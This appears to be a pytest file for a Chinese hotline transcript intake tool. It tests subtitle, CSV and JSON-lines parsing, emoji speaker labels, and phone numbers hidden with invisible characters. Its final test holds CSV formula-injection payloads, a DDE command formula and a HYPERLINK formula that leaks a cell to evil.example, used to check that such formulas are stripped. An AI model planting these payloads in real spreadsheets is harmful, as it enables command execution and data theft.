"""Transcript shapes an outside prober found mishandled: subtitles (SRT, WebVTT), CSV and JSON
lines of turns (also through the API's ?format=), emoji speaker labels, and phone numbers with
invisible format characters inside."""
from __future__ import annotations

import json

import pytest

from bot.intake.errors import IntakeError
from bot.intake.phones import find_numbers
from bot.intake.reader import ReadFailure, Transcript, read_bytes, read_path, read_text

SRT = """1
00:00:01,000 --> 00:00:04,000
话务员：您好，这里是代理热线，请讲。

2
00:00:04,500 --> 00:00:09,000
市民：我们文化路社区停水两天了，
一直没人来修。

3
00:00:09,500 --> 00:00:12,000
我姓王，电话13812345678。

12
00:01:10,000 --> 00:01:12,000
话务员：好的，我们马上给您登记。
"""

VTT = """WEBVTT
Kind: captions
Language: zh-CN

NOTE 这段是导出程序写的备注
不是对话

STYLE
::cue { color: yellow }

call-1
00:00:01.000 --> 00:00:04.000 align:start position:10%
<v 话务员>您好，这里是代理热线，请讲。</v>

00:00:04.500 --> 00:00:09.000
<v.loud 市民>我们<b>文化路社区</b>停水两天了，<i>一直</i>没人来修。</v>

00:00:09.500 --> 00:00:12.000
<v 市民><c.yellow>我姓王</c>，电话<00:00:10.000>13812345678。</v>
"""

TIMING_BITS = ("-->", "04,000", "09,000", "12,000", "09.000", "04.000", "<v", "</v>", "<b>", "WEBVTT",
               "NOTE", "align:", "call-1", "::cue")


def _no_timing(t: Transcript) -> None:
    text = t.full_text
    for bit in TIMING_BITS:
        assert bit not in text, (bit, text)
    assert all(turn.text.strip() not in ("1", "2", "3", "12") for turn in t.turns), t.turns


@pytest.mark.parametrize("name, data", [("srt", SRT), ("vtt", VTT)])
def test_subtitles_drop_numbers_and_timings_and_keep_speakers(name, data):
    t = read_text(data)
    _no_timing(t)
    assert [turn.speaker_role for turn in t.turns][:2] == ["operator", "caller"], t.turns
    caller = t.text_of("caller")
    assert "文化路社区停水两天了" in caller and "13812345678" in caller
    assert "一直没人来修" in caller
    assert t.turns[0].start and t.turns[0].start.startswith("00:00:01")


@pytest.mark.parametrize("suffix, data", [(".srt", SRT), (".vtt", VTT)])
def test_subtitle_files_read_the_same(suffix, data):
    for encoding in ("utf-8", "utf-8-sig", "gb18030", "utf-16"):
        items = read_bytes(data.encode(encoding), suffix=suffix, name="call")
        assert len(items) == 1 and isinstance(items[0], Transcript), items
        _no_timing(items[0])
        assert "13812345678" in items[0].text_of("caller")


def test_srt_without_speakers_is_plain_text_without_timings():
    srt = "1\n00:00:01,000 --> 00:00:04,000\n我们小区停水了\n\n2\n00:00:04,000 --> 00:00:09,000\n两天了没人管\n"
    t = read_text(srt)
    assert [turn.text for turn in t.turns] == ["我们小区停水了", "两天了没人管"]
    assert t.turns[1].start == "00:00:04,000"


def test_srt_with_crlf_and_dialogue_dashes():
    srt = "1\r\n00:00:01,000 --> 00:00:04,000\r\n- 话务员：您好请讲\r\n- 市民：路灯坏了\r\n\r\n"
    t = read_text(srt)
    assert [(turn.speaker_role, turn.text) for turn in t.turns] == [("operator", "您好请讲"), ("caller", "路灯坏了")]


def test_vtt_voice_tags_on_one_line_and_entities():
    vtt = "WEBVTT\n\n00:01.000 --> 00:04.000\n<v A>您好，请讲</v> <v B>我家门口&amp;楼道的灯坏了</v>\n"
    t = read_text(vtt)
    assert [(turn.speaker, turn.speaker_role) for turn in t.turns] == [("A", "operator"), ("B", "caller")]
    assert t.turns[1].text == "我家门口&楼道的灯坏了"


def test_text_that_only_mentions_an_arrow_is_not_a_subtitle():
    t = read_text("市民：我从 A --> B 走，路上 10:00 的时候看见灯坏了\n话务员：好的")
    assert "A --> B" in t.text_of("caller")


# ---------------------------------------------------------------- CSV of turns
CSV_TURNS = 'speaker,text\n"话务员","您好，请讲"\n"市民","我们小区""文化路社区""停水了, 两天了"\n'


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16"])
def test_csv_of_turns_with_quoted_fields_in_every_encoding(encoding):
    items = read_bytes(CSV_TURNS.encode(encoding), fmt="csv", name="call")
    assert len(items) == 1 and isinstance(items[0], Transcript), items
    t = items[0]
    assert [(turn.speaker_role, turn.text) for turn in t.turns] == [
        ("operator", "您好，请讲"), ("caller", '我们小区"文化路社区"停水了, 两天了')]


@pytest.mark.parametrize("header", ["角色,内容", "说话人,内容", "role,content", "发言人,文本", "Speaker,Text"])
def test_csv_turn_headers_in_chinese_and_english(header):
    data = f"{header}\n话务员,您好请讲\n市民,\"我家楼下太吵了,天天到凌晨\"\n".encode("gbk")
    t = read_bytes(data, fmt="csv")[0]
    assert isinstance(t, Transcript), t
    assert [turn.speaker_role for turn in t.turns] == ["operator", "caller"]
    assert t.text_of("caller") == "我家楼下太吵了,天天到凌晨"


def test_csv_of_turns_grouped_by_call_id_and_neutral_speakers():
    data = ("call_id,speaker,text\n"
            "c1,A,您好，这里是代理热线，请讲\nc1,B,我家停水了\n"
            "c2,A,您好请讲\nc2,B,路灯坏了\n").encode()
    items = read_bytes(data, fmt="csv")
    assert [i.id for i in items] == ["c1", "c2"] and all(isinstance(i, Transcript) for i in items)
    assert items[1].text_of("caller") == "路灯坏了"


def test_csv_batch_with_one_transcript_per_row_still_works():
    data = 'id,text\n1,"话务员：您好\n市民：我家停水了"\n2,路灯坏了\n'.encode()
    items = read_bytes(data, fmt="csv")
    assert [i.id for i in items] == ["1", "2"] and all(isinstance(i, Transcript) for i in items)


def test_csv_of_turns_with_an_empty_text_row_skips_it():
    data = "speaker,text\n话务员,您好请讲\n市民,\n市民,路灯坏了\n".encode()
    t = read_bytes(data, fmt="csv")[0]
    assert isinstance(t, Transcript) and t.text_of("caller") == "路灯坏了"


def test_files_as_bot_intake_reads_them(tmp_path):
    """`bot intake PATH [--format csv]` goes through read_path."""
    (tmp_path / "a.srt").write_text(SRT, encoding="utf-8")
    (tmp_path / "b.vtt").write_bytes(VTT.encode("gb18030"))
    (tmp_path / "c.csv").write_bytes(CSV_TURNS.encode("gbk"))
    items = read_path(tmp_path)
    assert [i.id for i in items] == ["a", "b", "c"] and all(isinstance(i, Transcript) for i in items), items
    _no_timing(items[0])
    _no_timing(items[1])
    assert items[2].text_of("caller") == '我们小区"文化路社区"停水了, 两天了'
    (tmp_path / "d.txt").write_bytes(CSV_TURNS.encode("gbk"))
    assert read_path(tmp_path / "d.txt", "csv")[0].text_of("caller") == '我们小区"文化路社区"停水了, 两天了'


# ---------------------------------------------------------------- JSON lines
def _jsonl(*objs) -> bytes:
    return "\n".join(o if isinstance(o, str) else json.dumps(o, ensure_ascii=False) for o in objs).encode()


def test_jsonl_batch_one_item_per_line_and_a_bad_line_is_one_failure():
    data = _jsonl({"id": "a", "text": "市民：我家停水了"}, '{"id": "b", "text": ', {"id": "c", "text": "路灯坏了"})
    items = read_bytes(data, fmt="jsonl", name="batch")
    assert [type(i).__name__ for i in items] == ["Transcript", "ReadFailure", "Transcript"]
    assert items[1].id == "batch#2" and "第 2 行" in items[1].error.zh


def test_jsonl_of_turn_objects_is_still_one_item_per_line():
    data = _jsonl({"speaker": "话务员", "text": "您好请讲"}, {"speaker": "市民", "text": "我家停水了"}, "{oops")
    items = read_bytes(data, fmt="jsonl", name="call")
    assert [type(i).__name__ for i in items] == ["Transcript", "Transcript", "ReadFailure"]
    assert "第 3 行" in items[2].error.zh


def roles_texts(t: Transcript) -> list[tuple[str, str]]:
    return [(turn.speaker_role, turn.text) for turn in t.turns]


# ---------------------------------------------------------------- emoji labels
@pytest.mark.parametrize("text", [
    "👮：您好请讲\n🧑：文化路社区楼道里的灯坏了好几天了",
    "👮:您好请讲\n🧑:文化路社区楼道里的灯坏了好几天了",
    "👩\u200d💼：您好请讲\n🧑\u200d🦳：文化路社区楼道里的灯坏了好几天了",
    "☎️：您好请讲\n★：文化路社区楼道里的灯坏了好几天了",
])
def test_emoji_speaker_labels(text):
    t = read_text(text)
    assert [turn.speaker_role for turn in t.turns] == ["operator", "caller"], t.turns
    assert t.text_of("caller") == "文化路社区楼道里的灯坏了好几天了"


def test_emoji_inside_a_sentence_is_no_label():
    t = read_text("话务员：您好请讲\n市民：我今天很生气😡：楼下又吵了一晚上")
    assert t.text_of("caller") == "我今天很生气😡：楼下又吵了一晚上"


# ---------------------------------------------------------------- invisible characters in numbers
@pytest.mark.parametrize("text", [
    "电话138\u202e1234\u202c5678", "电话138\u200b1234\u200b5678", "电话\u200e13812345678\u200f",
    "电话1\u200d3\u2060812345678", "电话\ufeff138 1234 5678", "电话幺三八\u200b一二三四五六七八",
])
def test_format_characters_inside_a_phone_number(text):
    found = [m for m in find_numbers(text) if m.kind == "mobile"]
    assert [m.value for m in found] == ["13812345678"]
    m = found[0]
    # positions still point into the text as given
    assert text[m.start] in "1幺" and text[m.end - 1] in "8八"
    assert text[:m.start] == "电话" + text[2:m.start]


def test_format_characters_only_hide_nothing_else():
    assert [m.value for m in find_numbers("电话138-1234-5678，另一个0571\u200b87654321")] == [
        "13812345678", "0571-87654321"]
    assert not [m for m in find_numbers("第138\u200b号") if m.kind == "mobile"]


def test_phone_with_bidi_marks_reaches_the_proposal(sqlite_container):
    from bot.intake.service import IntakeService
    from bot.nlu import KeywordClassifier

    service = IntakeService(sqlite_container.cases, sqlite_container.catalog,
                            KeywordClassifier(sqlite_container.catalog), actor="operator")
    p = service.propose_text("话务员：您好请讲\n市民：文化路社区楼下烧烤店天天吵，电话138\u202e1234\u202c5678")
    assert p.to_dict()["phone"] == "13812345678"


# ---------------------------------------------------------------- never anything but our errors
@pytest.mark.parametrize("data", [
    b"WEBVTT", b"WEBVTT\n\nNOTE only a note\n", b"1\n00:00:01,000 --> 00:00:04,000\n\n",
    b"00:00:01,000 --> 00:00:04,000", "<v 市民></v>".encode(), b"WEBVTT\n\n00:01.000 --> 00:02.000\n<v >\n",
    b"speaker,text\n", b"speaker,text\n,\n", b'speaker,text\n"unterminated', b"{}\n{}\n", b"[]\n[]\n",
    "👮：\n🧑：".encode(), "\u202e\u200b".encode(), b"WEBVTT\n\n" + b"<v a>" * 5000,
])
@pytest.mark.parametrize("fmt", ["auto", "text", "csv", "jsonl", "json"])
def test_odd_inputs_fail_only_with_clear_reasons(data, fmt):
    for item in read_bytes(data, fmt=fmt):
        assert isinstance(item, (Transcript, ReadFailure))
        if isinstance(item, ReadFailure):
            assert isinstance(item.error, IntakeError) and item.error.zh


# ---------------------------------------------------------------- the API's ?format=
@pytest.fixture
def client(sqlite_container):
    from tests.test_intake_web import make_client

    return make_client(sqlite_container)


@pytest.mark.parametrize("encoding, content_type", [
    ("utf-8", "text/csv; charset=utf-8"), ("gbk", "text/csv; charset=gbk"), ("gbk", "text/plain"),
    ("utf-8", "application/octet-stream")])
def test_api_csv_with_format_query(client, encoding, content_type):
    body = 'speaker,text\n"话务员","您好，请讲"\n"市民","我们小区""文化路社区""停水了, 两天了，电话13812345678"\n'
    r = client.post("/api/intake?format=csv", content=body.encode(encoding), headers={"Content-Type": content_type})
    assert r.status_code == 200, r.text
    p = r.json()
    assert '""' not in p["summary"] and "speaker,text" not in p["summary"], p["summary"]
    assert "停水" in p["summary"] and p["phone"] == "13812345678"


def test_api_csv_by_content_type_alone(client):
    body = "角色,内容\n话务员,您好请讲\n市民,\"幸福里停水了,电话13900001111\"\n".encode()
    r = client.post("/api/intake", content=body, headers={"Content-Type": "text/csv"})
    assert r.status_code == 200, r.text
    assert r.json()["phone"] == "13900001111"


@pytest.mark.parametrize("content_type", ["application/json", "application/x-ndjson", "text/plain"])
def test_api_jsonl_with_format_query(client, content_type):
    body = _jsonl({"speaker": "话务员", "text": "您好请讲"}, {"speaker": "市民", "text": "幸福里停水了，电话13900001111"})
    r = client.post("/api/intake?format=jsonl", content=body, headers={"Content-Type": content_type})
    assert r.status_code == 200, r.text
    assert r.json()["phone"] == "13900001111" and r.json()["area"] == "S1P2"


def test_api_jsonl_bad_line_and_batches_are_clear_400s(client):
    body = _jsonl({"speaker": "话务员", "text": "您好请讲"}, "{oops")
    r = client.post("/api/intake?format=jsonl", content=body, headers={"Content-Type": "application/x-ndjson"})
    assert r.status_code == 400 and "第 2 行" in r.json()["error"], r.text
    body = _jsonl({"id": "a", "text": "市民：我家停水了"}, {"id": "b", "text": "市民：路灯坏了"})
    r = client.post("/api/intake?format=jsonl", content=body, headers={"Content-Type": "application/x-ndjson"})
    assert r.status_code == 400 and "一通" in r.json()["error"], r.text
    r = client.post("/api/intake?format=docx", content=b"x", headers={"Content-Type": "text/plain"})
    assert r.status_code == 400, r.text


def test_api_vtt_text_body(client):
    r = client.post("/api/intake", content=VTT.encode(), headers={"Content-Type": "text/vtt"})
    assert r.status_code == 200, r.text
    summary = r.json()["summary"]
    assert "09.000" not in summary and "<v" not in summary and "-->" not in summary, summary


def test_a_spreadsheet_formula_in_a_transcript_cell_is_not_read_as_words():
    from bot.catalog import Catalog
    from bot.intake.extract import extract
    from bot.intake.places import PlaceMatcher
    from bot.settings import ROOT

    turns = ("说话人,内容\n"
             "市民,\"=cmd|' /C calc'!A0 楼道堆满杂物，一直没人清。电话13812345678\"\n"
             "话务员,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点我\"\") 好的，给您登记\"\n"
             "市民,=1+2\n"
             "市民,+cmd|' /C calc'!A0 谢谢\n")
    t = read_bytes(turns.encode("utf-8"), fmt="csv", name="formula")[0]
    assert [(turn.speaker_role, turn.text) for turn in t.turns] == [
        ("caller", "楼道堆满杂物，一直没人清。电话13812345678"), ("operator", "好的，给您登记"),
        ("caller", "谢谢")]
    summary = extract(t, PlaceMatcher(Catalog.load(ROOT / "data"))).summary
    assert summary == "来电人反映：楼道堆满杂物，一直没人清。", summary
    # one call a row: a leading formula goes; numbers that look like one ("-3度", "+86") stay
    table = ("id,text\n"
             "1,\"=cmd|' /C calc'!A0 市民：小区停水两天了，电话13812345678\"\n"
             "2,-3度了暖气还是不热，电话13812345678\n"
             "3,\"+86 13812345678 停水了\"\n"
             "4,=SUM(A1:A3)\n")
    items = read_bytes(table.encode("utf-8"), fmt="csv", name="rows")
    assert [i.full_text if isinstance(i, Transcript) else None for i in items] == [
        "小区停水两天了，电话13812345678", "-3度了暖气还是不热，电话13812345678",
        "+86 13812345678 停水了", None]
    assert isinstance(items[3], ReadFailure) and "缺少通话内容" in items[3].error.zh
